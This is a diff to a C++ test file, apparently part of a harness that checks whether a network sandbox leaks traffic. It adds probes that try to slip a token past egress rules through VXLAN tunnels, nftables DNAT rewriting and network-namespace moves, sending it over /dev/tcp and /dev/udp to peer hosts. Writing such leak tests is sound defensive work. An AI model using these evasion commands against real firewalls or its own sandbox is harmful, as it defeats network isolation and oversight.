@@ -9,41 +9,14 @@
 #include <cstring>
 
 #include "absl/strings/str_cat.h"
-#include "absl/strings/str_replace.h"
 #include "common/errno_status.h"
 #include "common/status_macros.h"
 #include "test/leak/probe.h"
+#include "test/leak/shell_probe.h"
 #include "test/leak/sockets.h"
 
 namespace bulkhead::leak {
 namespace {
-
-// Root's own words, in shell. IF is the interface, PEER its other end, PORT and TOKEN the shot, NS a namespace of the
-// probe's. A command that fails ends the attempt; every probe cleans up what it made.
-class ShellProbe : public Probe {
- public:
-  struct Way {
-    std::string prepare;  // before the order
-    std::string attempt;  // under it
-    std::string clean;    // afterwards, errors ignored
-  };
-  explicit ShellProbe(Way way) : way_(std::move(way)) {}
-  ~ShellProbe() override { RunWords("set +e; " + way_.clean, {}).IgnoreError(); }
-
-  absl::Status Prepare(const Shot& shot) override { return RunWords(way_.prepare, shot); }
-  absl::Status Attempt(const Shot& shot) override { return RunWords(way_.attempt, shot); }
-
- private:
-  static absl::Status RunWords(const std::string& words, const Shot& shot) {
-    const std::string script = absl::StrReplaceAll(words, {{"$IF", kInterface},
-                                                           {"$PEER", kPeer4},
-                                                           {"$PORT", absl::StrCat(shot.port)},
-                                                           {"$TOKEN", shot.token},
-                                                           {"$NS", "lkns"}});
-    return Run(script);
-  }
-  const Way way_;
-};
 
 constexpr char kSendUdp[] = "printf %s $TOKEN > /dev/udp/$PEER/$PORT";
 constexpr char kDeleteNamespace[] = "ip netns del $NS; ip link del lkd";
@@ -73,18 +46,9 @@ std::string Tunnel(const std::string& link) {
 constexpr char kSendThroughTunnel[] = "printf %s $TOKEN > /dev/udp/10.80.0.2/$PORT";
 constexpr char kDeleteDevice[] = "ip link del lkd";
 
-ProbeFactory Shell(ShellProbe::Way way) {
-  return [way] { return std::make_unique<ShellProbe>(way); };
-}
-
 ProbeFactory ThroughTunnel(const std::string& link) {
   return Shell({.prepare = "", .attempt = Tunnel(link) + kSendThroughTunnel, .clean = kDeleteDevice});
 }
-
-constexpr char kMirrorLoopback[] =
-    "tc qdisc add dev lo clsact; tc filter add dev lo egress matchall action mirred egress mirror dev $IF; ";
-constexpr char kSendToLoopback[] = "printf %s $TOKEN > /dev/udp/127.0.0.1/$PORT";
-constexpr char kUnmirrorLoopback[] = "tc qdisc del dev lo clsact";
 
 // The kernel's own senders. The log's level lets every message through.
 constexpr char kNetconsole[] =
@@ -131,7 +95,21 @@ class TunProbe : public Probe {
   UniqueFd fd_;
 };
 
-// Sends from a child that lives in another namespace, to which the interface was moved, and brings it back.
+// Connects to the endpoint that a rule allows, through a tunnel to another one, which only the packet around it names.
+// What the kernel says on the tunnel's own behalf goes through it too.
+constexpr char kTunnelOfAllowed[] =
+    "ip link add lkd type vxlan id 7 dev $IF remote 10.77.0.3 dstport $PORT; ip addr add 10.80.0.1/24 dev lkd; "
+    "ip link set lkd up; ip neigh add $PEER lladdr 02:77:00:00:00:02 dev lkd; ip route add $PEER/32 dev lkd; "
+    "timeout 1 bash -c \"printf %s $TOKEN > /dev/tcp/$PEER/7777\"";
+
+// Connects to the endpoint that a rule allows; the shot's port stands in its place on the wire.
+constexpr char kDnatOfAllowed[] =
+    "nft add table ip lknat; nft add chain ip lknat out \"{ type nat hook output priority -100; }\"; "
+    "nft add rule ip lknat out ip daddr $PEER tcp dport 7777 dnat to $PEER:$PORT; "
+    "timeout 1 bash -c \"printf %s $TOKEN > /dev/tcp/$PEER/7777\"";
+
+// Sends from a child that lives in another namespace, to which the interface was moved, and brings it back. A move
+// takes every tc filter off an interface.
 constexpr char kMoveInterface[] =
     "ip netns add $NS; ip link set $IF netns $NS; ip -n $NS addr add 10.77.0.1/24 dev $IF; ip -n $NS link set $IF up; "
     "sleep 0.2; ";
@@ -166,11 +144,15 @@ void AddDetourProbes(ProbeTable& table) {
   table["tunnel_gre"] = ThroughTunnel("lkd type gretap local 10.77.0.1 remote $PEER");
   table["tunnel_vxlan"] = ThroughTunnel("lkd type vxlan id 7 dev $IF remote $PEER dstport 4789");
   table["nft_dnat_of_allowed"] =
+      Shell({.prepare = "", .attempt = kDnatOfAllowed, .clean = "nft delete table ip lknat"});
+  table["nft_dnat_in_moved_namespace"] = Shell({.prepare = "",
+                                                .attempt = absl::StrCat(kMoveInterface, InNamespace(kDnatOfAllowed)),
+                                                .clean = kBringInterfaceBack});
+  table["tunnel_of_allowed"] = Shell({.prepare = "", .attempt = kTunnelOfAllowed, .clean = kDeleteDevice});
+  table["tunnel_of_allowed_in_moved_namespace"] =
       Shell({.prepare = "",
-             .attempt = "nft add table ip lknat; nft add chain ip lknat out '{ type nat hook output priority -100; }'; "
-                        "nft add rule ip lknat out ip daddr $PEER tcp dport 7777 dnat to $PEER:$PORT; "
-                        "timeout 1 bash -c 'printf %s $TOKEN > /dev/tcp/$PEER/7777'",
-             .clean = "nft delete table ip lknat"});
+             .attempt = absl::StrCat(kMoveInterface, InNamespace(kTunnelOfAllowed)),
+             .clean = absl::StrCat("ip -n $NS link del lkd; ", kBringInterfaceBack)});
   table["wireguard"] = Shell(
       {.prepare = "",
        .attempt = "ip link add lkd type wireguard; wg genkey > /tmp/lk.key; "
